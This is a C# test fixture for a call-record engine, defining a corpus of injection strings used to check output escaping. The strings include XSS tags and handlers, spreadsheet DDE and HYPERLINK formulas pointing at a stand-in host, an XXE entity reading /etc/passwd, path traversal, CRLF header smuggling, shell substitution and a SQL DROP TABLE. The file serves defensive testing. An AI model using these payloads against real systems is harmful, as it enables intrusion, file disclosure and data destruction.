using System.Text;

namespace CdrEngine.TestKit.Hostile;

/// <summary>A text that means something to one of the outputs of the engine: markup, a formula, an escape sequence, a path.</summary>
/// <param name="Name">What it is, for messages of tests.</param>
/// <param name="Text">The text. Characters from U+F780 to U+F7FF stand for the bytes 0x80 to 0xFF, so that broken UTF-8 can be told of.</param>
public sealed record HostileText(string Name, string Text)
{
    private const char FirstByte = '\uF780';
    private const char LastByte = '\uF7FF';

    /// <summary>Every text of the corpus. Each holds <c>pwn</c> where an output could be made to carry it out, so that a test can look for it.</summary>
    public static IReadOnlyList<HostileText> All { get; } =
    [
        // HTML, SVG and XML.
        new("script element", "<script>pwn()</script>"),
        new("attribute in double quotes", "\" onmouseover=\"pwn()\" x=\""),
        new("attribute in single quotes", "' onerror='pwn()' x='"),
        new("image with a handler", "<img src=x onerror=pwn()>"),
        new("svg with a handler", "<svg/onload=pwn()>"),
        new("end of a title", "</title></style></textarea></script><script>pwn()</script>"),
        new("end of a comment", "--><script>pwn()</script><!--"),
        new("end of a data section", "]]><script>pwn()</script><![CDATA["),
        new("entity", "&lt;script&gt;pwn()&lt;/script&gt;&#x3c;b&#62;&pwn;"),
        new("document type", "<!DOCTYPE a [<!ENTITY pwn SYSTEM \"file:///etc/passwd\">]>&pwn;"),
        new("script address", "javascript:pwn()//"),
        new("data address", "data:text/html,<script>pwn()</script>"),
        new("template", "{{constructor.constructor('pwn()')()}}${pwn()}<%= pwn %>#{pwn}"),
        new("style", "x;background:url(javascript:pwn())"),
        new("foreign object", "<foreignObject><body onload=\"pwn()\"/></foreignObject>"),
        new("wide brackets", "\uFF1Cscript\uFF1Epwn()\uFF1C/script\uFF1E"),

        // Cells of a spreadsheet.
        new("formula", "=pwn|' /C calc'!A0"),
        new("formula after plus", "+pwn(1)"),
        new("formula after minus", "-2+3+pwn|' /C calc'!A0"),
        new("formula after at", "@SUM(1+1)*pwn|' /C calc'!A0"),
        new("formula after tab", "\t=pwn()"),
        new("formula after a line", "\r=pwn()"),
        new("cell and line", "a\",\"=pwn()\"\r\n\"=pwn()\",b"),
        new("hyperlink", "=HYPERLINK(\"http://pwn.example/?\"&A1,\"click\")"),
        new("semicolons and tabs", "a;=pwn();b\t=pwn()"),

        // JSON and scripts.
        new("end of a string", "\",\"pwn\":true,\"x\":\""),
        new("backslashes", "\\\",\"pwn\":1}\\"),
        new("line separators", "a\u2028pwn()\u2029b"),
        new("unicode escape", "\\u003cscript\\u003epwn()\\u003c/script\\u003e"),

        // Terminals and logs.
        new("colours and title", "\e[31mpwn\e[0m\e]0;pwn\a"),
        new("clear the screen", "\e[2J\e[H\ec pwn"),
        new("one-byte control sequence", "\u009b31mpwn \uF79B31mpwn"),
        new("another line of a log", "x\r\n2026-11-20 10:00:00 warn: pwn"),
        new("carriage return", "user\rpwn: admin"),
        new("backspaces", "alice\b\b\b\b\bpwn"),
        new("right to left", "\u202Egpj.pwn\u202C\u2066x\u2069\u200F"),
        new("null", "pwn\0.exe"),
        new("delete and controls", "\u0001\u0002\u001f\u007f\u0085pwn"),

        // Paths and headers of HTTP and mail.
        new("way up", "../../../../../../tmp/pwn"),
        new("way up of Windows", "..\\..\\..\\pwn.exe"),
        new("absolute path", "/etc/passwd\0pwn"),
        new("encoded way up", "..%2f..%2f..%2fetc%2fpasswd%00pwn"),
        new("file name parameter", "pwn\"; filename=\"pwn.html\"; x=\""),
        new("extended file name", "pwn; filename*=UTF-8''pwn.html"),
        new("another header", "x\r\nSet-Cookie: pwn=1\r\nBcc: pwn@example.com\r\n\r\n<html>pwn"),
        new("encoded another header", "x%0d%0aSet-Cookie:%20pwn=1"),
        new("dot line", "x\r\n.\r\nMAIL FROM:<pwn@example.com>\r\n"),
        new("encoded word", "=?utf-8?Q?=0D=0ABcc:_pwn?="),

        // Shells, SQL, settings, formats.
        new("shell", "$(pwn)`pwn`;pwn|pwn&pwn>pwn"),
        new("sql", "'; DROP TABLE calls; --pwn"),
        new("like pattern", "%_\\%pwn*?[a-z]"),
        new("setting", "${CDRENGINE_DATA}${?PATH} include \"/etc/passwd\" pwn = 1 # //"),
        new("format", "{0}{1:X}%s%n%x pwn"),
        new("option", "--data=/tmp/pwn"),
        new("glob", "*"),

        // Text that is none.
        new("broken UTF-8", "pwn\uF7C3(\uF7FF\uF7FE\uF7E2\uF782"),
        new("overlong UTF-8", "\uF7C0\uF7BCscript\uF7C0\uF7BEpwn()"),
        new("surrogates in UTF-8", "\uF7ED\uF7A0\uF780pwn\uF7ED\uF7B0\uF780"),
        new("byte order mark", "\uFEFFpwn\uFFFE"),
        new("long", new string('A', 3000) + "pwn"),
        new("combining", "Z" + string.Concat(Enumerable.Repeat("\u0335\u0321", 200)) + "pwn"),
        new("emoji", "\U0001F4A9\U0001F468\u200D\U0001F469\u200D\U0001F466pwn"),
        new("empty", ""),
        new("spaces", "   "),
    ];

    /// <summary>The text where a line may not end: CR, LF and NUL are written as URIs write them.</summary>
    public string InHeader => Text.Replace("\r", "%0d", StringComparison.Ordinal).Replace("\n", "%0a", StringComparison.Ordinal).Replace("\0", "%00", StringComparison.Ordinal);

    /// <summary>As a quoted string of SIP.</summary>
    public string Quoted => $"\"{InHeader.Replace("\\", "\\\\", StringComparison.Ordinal).Replace("\"", "\\\"", StringComparison.Ordinal)}\"";

    /// <summary>As the user part of a SIP URI: whatever is neither letter nor digit is escaped.</summary>
    public string InUri
    {
        get
        {
            var text = new StringBuilder();
            foreach (byte value in Bytes(Text.Length > 200 ? Text[..200] : Text))
            {
                if (char.IsAsciiLetterOrDigit((char)value)) text.Append((char)value);
                else text.Append('%').Append(value.ToString("x2", System.Globalization.CultureInfo.InvariantCulture));
            }

            return text.Length == 0 ? "%20" : text.ToString();
        }
    }

    /// <summary>The bytes of a text as they go over the wire.</summary>
    public static byte[] Bytes(string text)
    {
        var bytes = new List<byte>();
        foreach (Rune rune in text.EnumerateRunes())
        {
            if (rune.Value is >= FirstByte and <= LastByte) bytes.Add((byte)(rune.Value - FirstByte + 0x80));
            else bytes.AddRange(Encoding.UTF8.GetBytes(rune.ToString()));
        }

        return [.. bytes];
    }

    /// <inheritdoc />
    public override string ToString() => Name;
}
